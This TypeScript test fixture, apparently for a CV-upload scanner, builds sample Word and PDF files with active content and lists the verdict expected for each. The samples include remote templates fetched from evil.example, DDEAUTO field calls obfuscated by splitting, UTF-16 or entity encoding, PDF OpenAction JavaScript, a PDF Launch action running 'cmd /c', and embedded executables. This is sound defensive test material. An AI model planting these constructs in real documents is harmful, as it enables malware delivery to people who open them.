import { deflateSync } from 'node:zlib'
import type { ApplicationError } from '#lib/schemas/error-keys.ts'
import type { FileMark } from '#lib/schemas/files.ts'
import { oleOf, sampleDocx, wordParts, wordStream, zipOf } from './sample-documents.ts'
import { samplePdf } from './sample-files.ts'

/** A document with more in it than text: why it is refused, or its marks. */
type ActiveFile = {
  what: string
  name: string
  bytes: Buffer
  outcome: ApplicationError | readonly FileMark[]
}

type Cases = Readonly<Record<string, readonly [bytes: Buffer, outcome: ActiveFile['outcome']]>>

const named = (name: string, cases: Cases): ActiveFile[] =>
  Object.entries(cases).map(([what, [bytes, outcome]]) => ({ what, name, bytes, outcome }))

const withParts = (...parts: Parameters<typeof zipOf>[0]) => zipOf([...wordParts(), ...parts])

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

/** A Word document with a relationship to something outside of it. */
const linkedDocx = (kind: string, target: string, part = 'word/_rels/settings.xml.rels') => {
  const tag = `<Relationship Id="a" Type="${office}/${kind}" Target="${target}" TargetMode="External"/>`
  return withParts({ name: part, content: `<Relationships>${tag}</Relationships>` })
}

const field = (...texts: string[]) =>
  texts.map((text) => `<w:r><w:instrText>${text}</w:instrText></w:r>`).join('')
const withXml = (content: Buffer | string) => withParts({ name: 'word/header1.xml', content })

const program = () => {
  const bytes = Buffer.alloc(512)
  bytes.write('MZ')
  bytes.writeUInt32LE(0x80, 0x3c)
  bytes.write('PE\0\0', 0x80)
  return bytes
}

/** What a file that was dragged into a document lies in. */
const packed = (name: string) => {
  const stream = Buffer.alloc(4096)
  stream.write(`\x00\x10\x00\x00\x02\x00${name}\0C:\\Users\\x\\${name}\0`, 'latin1')
  return stream
}
const oleWith = (name: string) => oleOf({ '\x01Ole10Native': packed(name) })

const pdfWith = (entry: string) =>
  Buffer.from(
    samplePdf('', 'CV').buffer.toString('latin1').replace('/Type /Catalog', `/Type /Catalog ${entry}`),
    'latin1',
  )

const pdfPacking = (objects: string, filter = '/FlateDecode', type = '/ObjStm') => {
  const packedObjects = filter === '/FlateDecode' ? deflateSync(objects).toString('latin1') : objects
  const head = `<< /Type ${type} /N 1 /First 4 /Filter ${filter} /Length ${packedObjects.length} >>`
  const stream = `7 0 obj\n${head}\nstream\n${packedObjects}\nendstream\nendobj\nxref\n0 `
  return Buffer.from(
    samplePdf('', 'CV')
      .buffer.toString('latin1')
      .replace('xref\n0 ', () => stream),
    'latin1',
  )
}

const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le')

/** Documents that can do something, and such as only look as if. */
export const activeFiles: readonly ActiveFile[] = [
  ...named('cv.docx', {
    'a template from the web': [linkedDocx('attachedTemplate', 'https://evil.example/a.dotm'), 'cvActive'],
    'a template from the web, in numbers': [
      linkedDocx('attachedTemplate', '&#104;ttp&#x3A;//evil.example/?>'),
      'cvActive',
    ],
    'an object from the web': [
      linkedDocx('oleObject', 'mhtml:https://evil.example/a!x-usc:a', 'word/_rels/document.xml.rels'),
      'cvActive',
    ],
    'a template from a share': [
      linkedDocx('attachedTemplate', 'file:///\\\\evil.example\\a.dotx'),
      ['linked'],
    ],
    'a template on the writer’s disk': [
      linkedDocx('attachedTemplate', 'file:///C:\\Users\\Shilan\\AppData\\Roaming\\Templates\\CV.dotx'),
      [],
    ],
    'a template on a Mac': [linkedDocx('attachedTemplate', 'file:///Users/shilan/CV.dotx'), []],
    'a picture from the web': [linkedDocx('image', 'https://example.com/a.png'), ['linked']],
    'a link': [linkedDocx('hyperlink', 'https://example.com'), []],
    'a diagram of a table in a cloud': [
      linkedDocx('oleObject', 'https://d.docs.example/1/Book.xlsx', 'word/charts/_rels/chart1.xml.rels'),
      ['linked'],
    ],
    'a diagram of a table': [withParts({ name: 'word/embeddings/Sheet1.xlsx', content: sampleDocx() }), []],
    'a table with macros': [
      withParts({
        name: 'word/embeddings/Sheet1.xlsx',
        content: zipOf([{ name: 'xl/vbaProject.bin', content: '' }]),
      }),
      'cvMacros',
    ],
    'an object': [
      withParts({ name: 'word/embeddings/oleObject1.bin', content: oleOf({ a: Buffer.alloc(4096) }) }),
      ['embedded'],
    ],
    'an object by another name': [
      withParts({ name: 'word/media/a.png', content: oleWith('a.pdf') }),
      ['embedded'],
    ],
    'a program in an object': [
      withParts({ name: 'word/embeddings/oleObject1.bin', content: oleWith('CV.pdf.exe') }),
      'cvActive',
    ],
    'a script in an object': [
      withParts({ name: 'word/embeddings/oleObject1.bin', content: oleWith('a.js') }),
      'cvActive',
    ],
    'a program by another name': [withParts({ name: 'word/media/a.png', content: program() }), 'cvActive'],
    'a program by its name': [withParts({ name: 'word/embeddings/a.SCR', content: 'x' }), 'cvActive'],
    'a call of another program': [withXml(`<w:hdr>${field(' DDEAUTO c:\\\\a "b"')}</w:hdr>`), ['linked']],
    'a call in pieces': [withXml(`<w:hdr>${field(' DD', 'E', 'AUTO c:\\\\a')}</w:hdr>`), ['linked']],
    'a call in sixteen bits': [withXml(utf16(`<w:hdr>${field('DDE a b')}</w:hdr>`)), ['linked']],
    'a call in short': [withXml(`<w:p><w:fldSimple w:dirty="1" w:instr=" &#68;DE a b"/></w:p>`), ['linked']],
    'words that only look like a call': [
      withXml(`<w:p>${field(' PAGE ')}<w:t>Hidden: DDE, DDEAUTO</w:t></w:p>`),
      [],
    ],
    'a control': [withParts({ name: 'word/activeX/activeX1.xml', content: '<a/>' }), ['script']],
  }),
  ...named('cv.doc', {
    'a program in an old document': [
      oleOf({ WordDocument: wordStream(), '\x01Ole10Native': packed('a.vbs') }),
      'cvActive',
    ],
    'an object in an old document': [
      oleOf({ WordDocument: wordStream(), _1234567890: Buffer.alloc(4096) }),
      ['embedded'],
    ],
    'a call in an old document': [
      oleOf({ WordDocument: Buffer.concat([wordStream(), Buffer.from('\x13 DDEAUTO c:\\\\a \x14')]) }),
      ['linked'],
    ],
    'a call in an old document in sixteen bits': [
      oleOf({ WordDocument: Buffer.concat([wordStream(), Buffer.from('\x13DDE a\x14', 'utf16le')]) }),
      ['linked'],
    ],
  }),
  ...named('cv.pdf', {
    'a script': [pdfWith('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'), ['script']],
    'a script whose name is in numbers': [
      pdfWith('/OpenAction << /#53 %a\n/J#61vaScript /JS 9 0 R >>'),
      ['script'],
    ],
    'a script among packed objects': [pdfPacking('8 0 << /S/JavaScript/JS(a) >>'), ['script']],
    'a script among packed objects whose name is in numbers': [
      pdfPacking('8 0 << /S/JavaScript/JS(a) >>', '/FlateDecode', '/#4fbj#53tm'),
      ['script'],
    ],
    'a form with scripts': [pdfWith('/AcroForm << /XFA 9 0 R >>'), ['script']],
    'words that only look like a script': [samplePdf('', 'HTML/CSS/JavaScript/Launch').buffer, []],
    'a program that is started': [
      pdfWith('/OpenAction << /S /Launch /Win << /F (cmd) /P (/c a) >> >>'),
      'cvActive',
    ],
    'a program among packed objects': [pdfPacking('8 0 << /Type/Action/S/Launch/F(a.exe) >>'), 'cvActive'],
    'a program attached': [
      pdfWith('/Names << /EmbeddedFiles << /Names [(a) << /F (CV.exe) /EF 9 0 R >>] >> >>'),
      'cvActive',
    ],
    'another document that is opened': [
      pdfWith('/AA << /O << /S /Launch /F (certificate.pdf) >> >>'),
      ['linked'],
    ],
    'a file attached': [
      pdfWith('/Names << /EmbeddedFiles << /Names [(a) << /F (cv.xml) /EF 9 0 R >>] >> >>'),
      ['embedded'],
    ],
    'objects packed in another way': [pdfPacking('<~87cURD]~>', '/ASCII85Decode'), ['unread']],
  }),
]
